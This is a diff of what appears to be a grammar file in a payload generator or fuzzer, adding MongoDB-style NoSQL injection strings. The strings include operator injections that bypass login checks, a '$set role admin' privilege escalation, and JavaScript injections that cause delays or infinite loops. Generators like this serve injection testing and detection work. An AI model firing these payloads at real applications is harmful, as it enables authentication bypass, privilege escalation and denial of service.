@@ -140,7 +140,7 @@ _SQL: Final[Rules] = {
 
 _NOSQL: Final[Rules] = {
     "nosqli": ["«json_operator»", "«json_operator»", "«javascript»", "«javascript»", "«bracket»"],
-    "json_operator": ["{\"$ne\": null}", "{\"$gt\":\"\"}", "{\"$ne\":\"«word»\"}", "{\"$regex\":\"^«d».*\"}", "{\"$where\":\"sleep(«n»)\"}", "{\"$nin\":[\"«word»\"]}", "{\"$or\":[{},{\"a\":\"a\"}]}", "{\"$exists\":true}",
+    "json_operator": ["{\"$in\":[\"«word»\",\"admin\"]}", "{\"$in\":[\"\",null]}", "{\"$not\":{\"$eq\":\"\"}}", "{\"$nor\":[{\"a\":1}]}", "{\"$type\":2}", "{\"$mod\":[1,0]}", "{\"$size\":0}", "{\"$options\":\"i\",\"$regex\":\".*\"}", "{\"$all\":[]}", "{$nin:[]}", "{\"$ne\": null}", "{\"$gt\":\"\"}", "{\"$ne\":\"«word»\"}", "{\"$regex\":\"^«d».*\"}", "{\"$where\":\"sleep(«n»)\"}", "{\"$nin\":[\"«word»\"]}", "{\"$or\":[{},{\"a\":\"a\"}]}", "{\"$exists\":true}",
                       "{$gt:''}", "{$ne:1}", "'; return true; var a='", "\", $or: [ {}, { \"a\":\"a", "', $or: [ {}, {'a':'a' } ], $comment:'«word»", "true, $where: '1 == 1'", ", $where: '«d» == «d»'", "$where: '«d» == «d»'", "{ $where: 'this.«noun» == this.«noun»' }",
                       "{\"$func\":\"var_dump\"}", "{\"$expr\":{\"$eq\":[1,1]}}", "'}, {$set:{role:'admin'}}, {'", "{\"username\":{\"$ne\":null},\"password\":{\"$ne\":null}}", "{\"$gte\":\"\"}", "{\"$eq\":{\"$ne\":1}}", "[$ne]=1"],
     "javascript": ["' || '1'=='1", "' || 1==1//", "' && this.password.match(/.*/)//+%00", "';sleep(«n»);'", "'; while(true){}'", "\"; return true; //", "' || this.«noun» != '", "0;var date=new Date(); do{curDate = new Date();}while(curDate-date<«n»)",
